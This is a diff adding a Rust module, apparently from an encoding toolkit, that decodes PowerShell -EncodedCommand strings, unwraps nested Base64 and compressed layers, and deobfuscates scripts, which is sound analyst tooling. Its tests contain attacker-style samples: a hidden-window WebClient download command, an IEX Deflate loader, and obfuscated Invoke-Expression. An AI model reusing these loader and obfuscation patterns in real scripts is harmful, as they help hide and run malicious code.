@@ -0,0 +1,422 @@
+//! Encoding and decoding of PowerShell `-EncodedCommand` arguments, which are Base64 of
+//! UTF-16LE text, with unwrapping of nested Base64 layers and light deobfuscation.
+
+use crate::compression::{self, CompressionFormat};
+use crate::encoder::{ByteFormat, decode_bytes, encode_bytes};
+use std::{error::Error, str};
+
+/// Most layers unwrapped, so that a self-referencing payload cannot loop forever.
+const MAX_LAYERS: usize = 16;
+
+/// Largest decompressed layer accepted.
+const MAX_LAYER_SIZE: usize = 10 * 1024 * 1024;
+
+/// Most deobfuscation passes over a script.
+const MAX_PASSES: usize = 32;
+
+/// Encodes a script as an `-EncodedCommand` argument.
+///
+/// # Examples
+///
+/// ```
+/// use nutek_encode_lib::powershell;
+/// let encoded = powershell::encode_powershell("Write-Host 'hi'");
+/// assert_eq!(encoded, "VwByAGkAdABlAC0ASABvAHMAdAAgACcAaABpACcA");
+/// ```
+pub fn encode_powershell(script: &str) -> String {
+    let utf16 = decode_bytes(script, ByteFormat::Utf16Le).unwrap_or_default();
+    String::from_utf8(encode_bytes(&utf16, ByteFormat::Base64)).unwrap_or_default()
+}
+
+/// Reads decoded bytes as UTF-16LE when they look like it, otherwise as UTF-8.
+fn bytes_to_text(bytes: &[u8]) -> String {
+    if let Some(utf16) = bytes.strip_prefix(b"\xff\xfe") {
+        return String::from_utf8_lossy(&encode_bytes(utf16, ByteFormat::Utf16Le)).into_owned();
+    }
+    if let Some(utf8) = bytes.strip_prefix(b"\xef\xbb\xbf") {
+        return String::from_utf8_lossy(utf8).into_owned();
+    }
+    let zeros = bytes.iter().skip(1).step_by(2).filter(|&&b| b == 0).count();
+    if bytes.len() >= 2 && bytes.len().is_multiple_of(2) && zeros * 2 >= bytes.len() / 2 {
+        String::from_utf8_lossy(&encode_bytes(bytes, ByteFormat::Utf16Le)).into_owned()
+    } else {
+        String::from_utf8_lossy(bytes).into_owned()
+    }
+}
+
+/// Decodes Base64 that is long enough and clean enough to be a payload.
+fn decode_base64_payload(text: &str) -> Option<Vec<u8>> {
+    let text = text.trim().trim_matches(['\'', '"']);
+    let valid = text.len() >= 8
+        && text
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'='));
+    valid
+        .then(|| decode_bytes(text, ByteFormat::Base64).ok())
+        .flatten()
+}
+
+/// Finds the value of `-EncodedCommand` in a command line, or of any of the abbreviations and
+/// dash variants PowerShell accepts for it, e.g. `-enc`, `-ec` or `/e`.
+fn encoded_command_argument(text: &str) -> Option<&str> {
+    let words: Vec<&str> = text.split_whitespace().collect();
+    words.windows(2).find_map(|pair| {
+        let name = pair[0].strip_prefix(['-', '/', '\u{2013}', '\u{2014}', '\u{2015}'])?;
+        let name = name.to_ascii_lowercase();
+        let matches = !name.is_empty() && ("encodedcommand".starts_with(&name) || name == "ec");
+        matches.then_some(pair[1])
+    })
+}
+
+/// Finds the first `FromBase64String(...)` with a literal argument and decodes it, inflating
+/// it when the script wraps it in a `DeflateStream` or `GZipStream`.
+fn from_base64_string(script: &str) -> Option<Vec<u8>> {
+    let lower = script.to_ascii_lowercase();
+    let start = lower.find("frombase64string(")? + "frombase64string(".len();
+    let rest = script[start..]
+        .trim_start()
+        .trim_start_matches('(')
+        .trim_start();
+    let quote = rest.chars().next().filter(|c| matches!(c, '\'' | '"'))?;
+    let end = rest[1..].find(quote)?;
+    // Only a single literal argument, anything else needs deobfuscating first.
+    if !rest[end + 2..].trim_start().starts_with(')') {
+        return None;
+    }
+    let bytes = decode_base64_payload(&rest[1..=end])?;
+    if lower.contains("deflatestream") {
+        compression::decompress(&bytes, CompressionFormat::Deflate, MAX_LAYER_SIZE).ok()
+    } else if lower.contains("gzipstream") {
+        compression::decompress(&bytes, CompressionFormat::Gzip, MAX_LAYER_SIZE).ok()
+    } else {
+        Some(bytes)
+    }
+}
+
+/// Decodes an `-EncodedCommand` argument, a whole command line holding one, or a script, then
+/// keeps unwrapping nested encoded commands and `FromBase64String` payloads, e.g. inside
+/// `IEX` or a `DeflateStream`. Returns every layer, outermost first, each deobfuscated
+/// first when `deobfuscate` is set.
+///
+/// # Examples
+///
+/// ```
+/// use nutek_encode_lib::powershell;
+/// let layers = powershell::decode_powershell("powershell.exe -nop -enc VwByAGkAdABlAC0ASABvAHMAdAAgACcAaABpACcA", false).unwrap();
+/// assert_eq!(layers, vec!["Write-Host 'hi'"]);
+/// ```
+pub fn decode_powershell(data: &str, deobfuscate: bool) -> Result<Vec<String>, Box<dyn Error>> {
+    let data = data.trim();
+    let first = match encoded_command_argument(data) {
+        Some(argument) => decode_base64_payload(argument)
+            .ok_or_else(|| format!("Invalid -EncodedCommand argument '{}'", argument))?,
+        None => decode_base64_payload(data).unwrap_or_else(|| data.as_bytes().to_vec()),
+    };
+    let mut layers = Vec::new();
+    let mut next = Some(first);
+    while let Some(bytes) = next.take() {
+        let mut script = bytes_to_text(&bytes);
+        if deobfuscate {
+            script = deobfuscate_powershell(&script);
+        }
+        if layers.len() < MAX_LAYERS {
+            next = encoded_command_argument(&script)
+                .and_then(decode_base64_payload)
+                .or_else(|| from_base64_string(&script));
+        }
+        layers.push(script);
+    }
+    Ok(layers)
+}
+
+/// A piece of a script: a string literal that can be rewritten, or anything else.
+#[derive(Debug, Clone, PartialEq)]
+enum Token {
+    Literal(String),
+    Code(String),
+}
+
+/// Reads a quoted string at the start of `text` and returns its value, or `None` for
+/// double-quoted strings that expand variables or subexpressions, and its length. Returns
+/// `None` for unterminated strings.
+fn read_literal(text: &str) -> Option<(Option<String>, usize)> {
+    let quote = text.chars().next()?;
+    let mut value = Some(String::new());
+    let mut chars = text.char_indices().skip(1).peekable();
+    while let Some((i, c)) = chars.next() {
+        let c = match c {
+            _ if c == quote => {
+                // A doubled quote is an escaped quote.
+                if chars.peek().map(|(_, c)| *c) != Some(quote) {
+                    return Some((value, i + 1));
+                }
+                chars.next();
+                quote
+            }
+            '`' if quote == '"' => match chars.next()?.1 {
+                '0' => '\0',
+                'a' => '\x07',
+                'b' => '\x08',
+                'f' => '\x0c',
+                'n' => '\n',
+                'r' => '\r',
+                't' => '\t',
+                'v' => '\x0b',
+                other => other,
+            },
+            '$' if quote == '"' => {
+                value = None;
+                c
+            }
+            _ => c,
+        };
+        if let Some(value) = &mut value {
+            value.push(c);
+        }
+    }
+    None
+}
+
+/// Reads `[char]65` or `[char]0x41` at the start of `text`.
+fn read_char_cast(text: &str) -> Option<(String, usize)> {
+    let prefix = text.get(..6)?;
+    if !prefix.eq_ignore_ascii_case("[char]") {
+        return None;
+    }
+    let rest = &text[6..];
+    let digits = rest
+        .find(|c: char| !c.is_ascii_alphanumeric())
+        .unwrap_or(rest.len());
+    let number = &rest[..digits];
+    let code = match number.get(..2) {
+        Some("0x" | "0X") => u32::from_str_radix(&number[2..], 16).ok()?,
+        _ => number.parse().ok()?,
+    };
+    Some((char::from_u32(code)?.to_string(), 6 + digits))
+}
+
+fn tokenize(script: &str) -> Vec<Token> {
+    let mut tokens = Vec::new();
+    let mut code = String::new();
+    let mut position = 0;
+    while let Some(c) = script[position..].chars().next() {
+        let rest = &script[position..];
+        let literal = match c {
+            '\'' | '"' => read_literal(rest),
+            '[' => read_char_cast(rest).map(|(value, length)| (Some(value), length)),
+            _ => None,
+        };
+        match literal {
+            Some((Some(value), length)) => {
+                if !code.is_empty() {
+                    tokens.push(Token::Code(std::mem::take(&mut code)));
+                }
+                tokens.push(Token::Literal(value));
+                position += length;
+            }
+            // Expandable strings are kept whole, so nothing inside them is rewritten.
+            Some((None, length)) => {
+                code.push_str(&rest[..length]);
+                position += length;
+            }
+            None => {
+                code.push(c);
+                position += c.len_utf8();
+            }
+        }
+    }
+    if !code.is_empty() {
+        tokens.push(Token::Code(code));
+    }
+    tokens
+}
+
+/// Removes the backticks of `I`E`X`-style obfuscation, keeping the escapes that mean
+/// something (`` `n ``, `` `t ``, ...).
+fn remove_ticks(code: &str) -> String {
+    let mut result = String::new();
+    let mut chars = code.chars().peekable();
+    while let Some(c) = chars.next() {
+        let pointless = chars
+            .peek()
+            .is_some_and(|next| next.is_ascii_alphanumeric() && !"0abfnrtv".contains(*next));
+        if !(c == '`' && pointless) {
+            result.push(c);
+        }
+    }
+    result
+}
+
+/// Applies a `-f` format string to literal arguments.
+fn apply_format(format: &str, arguments: &[String]) -> Option<String> {
+    let mut result = String::new();
+    let mut rest = format;
+    while let Some(start) = rest.find(['{', '}']) {
+        result.push_str(&rest[..start]);
+        let tail = &rest[start..];
+        if tail.starts_with("{{") || tail.starts_with("}}") {
+            result.push_str(&tail[..1]);
+            rest = &tail[2..];
+            continue;
+        }
+        let end = tail.find('}')?;
+        // Alignment and format specifiers, e.g. `{0,5}` or `{0:x}`, are not supported.
+        let index: usize = tail[1..end].trim().parse().ok()?;
+        result.push_str(arguments.get(index)?);
+        rest = &tail[end + 1..];
+    }
+    result.push_str(rest);
+    Some(result)
+}
+
+/// Performs one rewrite of the token list, returning whether anything changed. Format
+/// strings are applied before concatenation, as `-f` binds tighter than `+`.
+fn rewrite(tokens: &mut Vec<Token>) -> bool {
+    use Token::{Code, Literal};
+    // "{1}{0}" -f 'a','b'
+    for i in 0..tokens.len() {
+        if let [Literal(format), Code(op), Literal(_), ..] = &tokens[i..]
+            && op.trim().eq_ignore_ascii_case("-f")
+        {
+            let mut arguments = Vec::new();
+            let mut end = i + 2;
+            while let Some(Literal(argument)) = tokens.get(end) {
+                arguments.push(argument.clone());
+                match (tokens.get(end + 1), tokens.get(end + 2)) {
+                    (Some(Code(separator)), Some(Literal(_))) if separator.trim() == "," => {
+                        end += 2
+                    }
+                    _ => break,
+                }
+            }
+            if let Some(result) = apply_format(format, &arguments) {
+                tokens.splice(i..=end, [Literal(result)]);
+                return true;
+            }
+        }
+    }
+    // 'a' + 'b'
+    for i in 0..tokens.len() {
+        if let [Literal(a), Code(op), Literal(b), ..] = &tokens[i..]
+            && op.trim() == "+"
+        {
+            let joined = Literal(format!("{}{}", a, b));
+            tokens.splice(i..i + 3, [joined]);
+            return true;
+        }
+    }
+    // ('abc'), unless the parentheses are a method call or cast
+    for i in 0..tokens.len() {
+        if let [Code(before), Literal(_), Code(after), ..] = &tokens[i..]
+            && let Some(open) = before.trim_end().strip_suffix('(')
+            && after.trim_start().starts_with(')')
+            && !open.ends_with(|c: char| c.is_alphanumeric() || matches!(c, ']' | '_' | '.'))
+        {
+            let open = open.to_string();
+            let close = after.trim_start()[1..].to_string();
+            tokens[i] = Code(open);
+            tokens[i + 2] = Code(close);
+            tokens.retain(|token| token != &Code(String::new()));
+            return true;
+        }
+    }
+    false
+}
+
+/// Undoes common obfuscation: pointless backticks, string concatenation, `-f` format
+/// strings, `[char]` casts and parentheses around single strings. Rewritten strings are
+/// written single-quoted.
+///
+/// # Examples
+///
+/// ```
+/// use nutek_encode_lib::powershell;
+/// let script = powershell::deobfuscate_powershell("I`E`X (('Wri'+'te-H')+(\"{1}{0}\" -f 'st','o')+[char]32+'hi')");
+/// assert_eq!(script, "IEX 'Write-Host hi'");
+/// ```
+pub fn deobfuscate_powershell(script: &str) -> String {
+    let mut tokens = tokenize(script);
+    for token in &mut tokens {
+        if let Token::Code(code) = token {
+            *code = remove_ticks(code);
+        }
+    }
+    for _ in 0..MAX_PASSES {
+        if !rewrite(&mut tokens) {
+            break;
+        }
+    }
+    tokens
+        .iter()
+        .map(|token| match token {
+            Token::Literal(value) => format!("'{}'", value.replace('\'', "''")),
+            Token::Code(code) => code.clone(),
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod tests_powershell {
+    use super::*;
+
+    #[test]
+    fn it_round_trips_encoded_commands() {
+        let script = "$c = New-Object Net.WebClient\n$c.DownloadString('http://x/é')";
+        let encoded = encode_powershell(script);
+        for command in [
+            encoded.clone(),
+            format!("powershell -NoP -W Hidden -EncodedCommand {}", encoded),
+            format!("pwsh.exe /e \"{}\"", encoded),
+            format!("powershell \u{2013}eNc {}", encoded),
+        ] {
+            assert_eq!(decode_powershell(&command, false).unwrap(), vec![script]);
+        }
+        assert!(decode_powershell("powershell -enc !!!", false).is_err());
+        // Plain scripts are returned as they are.
+        assert_eq!(
+            decode_powershell("Get-Process", false).unwrap(),
+            vec!["Get-Process"]
+        );
+    }
+
+    #[test]
+    fn it_unwraps_nested_layers() {
+        let outer = "IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('Cy/KLEnV9S8tKSgtUVAvKM9LTVEHAA=='),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()";
+        let command = format!("powershell -enc {}", encode_powershell(outer));
+        let layers = decode_powershell(&command, false).unwrap();
+        assert_eq!(layers, vec![outer, "Write-Output 'pwned'"]);
+
+        // A nested encoded command, split up so only deobfuscation reveals it.
+        let inner = encode_powershell("whoami");
+        let (a, b) = inner.split_at(10);
+        let outer = format!(
+            "IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{}'+'{}')))",
+            a, b
+        );
+        assert_eq!(decode_powershell(&outer, false).unwrap().len(), 1);
+        let layers = decode_powershell(&outer, true).unwrap();
+        assert_eq!(layers[1], "whoami");
+    }
+
+    #[test]
+    fn it_deobfuscates_scripts() {
+        assert_eq!(
+            deobfuscate_powershell("& ('{2}{0}{1}' -f 'oke-Exp','ression','Inv') \"a`tb\""),
+            "& 'Invoke-Expression' 'a\tb'"
+        );
+        assert_eq!(
+            deobfuscate_powershell("$x = 'it''s' + \"$env:TEMP\"; $o.Invoke('a'+'b')"),
+            "$x = 'it''s' + \"$env:TEMP\"; $o.Invoke('ab')"
+        );
+        assert_eq!(
+            deobfuscate_powershell("[char]0x41+[char]66 + '{{0}}{0}'-f'C'"),
+            "'AB{0}C'"
+        );
+        // Unsupported format specifiers are left alone.
+        assert_eq!(deobfuscate_powershell("'{0:x}' -f 'a'"), "'{0:x}' -f 'a'");
+        assert_eq!(
+            deobfuscate_powershell("Write-Host \"unterminated"),
+            "Write-Host \"unterminated"
+        );
+    }
+}